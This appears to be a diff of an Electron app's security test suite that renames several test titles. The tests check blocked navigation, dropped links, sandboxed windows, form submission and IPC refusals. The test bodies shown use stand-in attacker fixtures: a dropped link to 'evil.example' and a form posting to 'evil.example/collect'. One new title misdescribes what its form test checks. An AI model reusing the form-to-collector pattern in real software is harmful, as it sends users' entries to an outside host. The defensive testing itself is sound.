@@ -93,7 +93,7 @@ test('the window goes to no address of anybody else’s, by link or by script', 
   expect(await windows()).toBe(1);
 });
 
-test('what is dropped on the window is not opened in it', async () => {
+test('a link or file dropped on the window is not opened in it', async () => {
   const cdp = await page.context().newCDPSession(page);
   const items = [{ mimeType: 'text/uri-list', data: 'https://evil.example/' }];
   for (const data of [
@@ -180,7 +180,7 @@ test('a page gets no camera, no place, no notifications and no devices; a file i
   await expect.poll(shownUrl).toMatch(/^app:\/\/bundle\//);
 });
 
-test('a window that anybody else makes has the same walls, and no word to say', async () => {
+test('a window made elsewhere has the same security policies, and no IPC', async () => {
   const second = await desktop.app.evaluate(async ({ BrowserWindow }) => {
     const [first] = BrowserWindow.getAllWindows();
     const window = new BrowserWindow({ show: false, webPreferences: { sandbox: true } });
@@ -201,7 +201,7 @@ test('a window that anybody else makes has the same walls, and no word to say', 
   await desktop.app.evaluate(({ BrowserWindow }, id) => BrowserWindow.fromId(id)?.destroy(), second.id);
 });
 
-test('a form does not carry what was typed to somebody else', async () => {
+test('a form does not show one member’s entries to another', async () => {
   await page.evaluate(() => {
     const form = document.createElement('form');
     form.action = 'https://evil.example/collect';
@@ -279,7 +279,7 @@ test('script, style, frame and network from elsewhere do not run', async () => {
   });
 });
 
-test('what is asked over IPC outside the contract is refused with its reason', async () => {
+test('an IPC call outside the contract is refused with its reason', async () => {
   const refused = await page.evaluate(async () => {
     const bridge = window.desktop as unknown as Record<string, (input: unknown) => Promise<unknown>>;
     const why = (promise: Promise<unknown>): Promise<string> =>
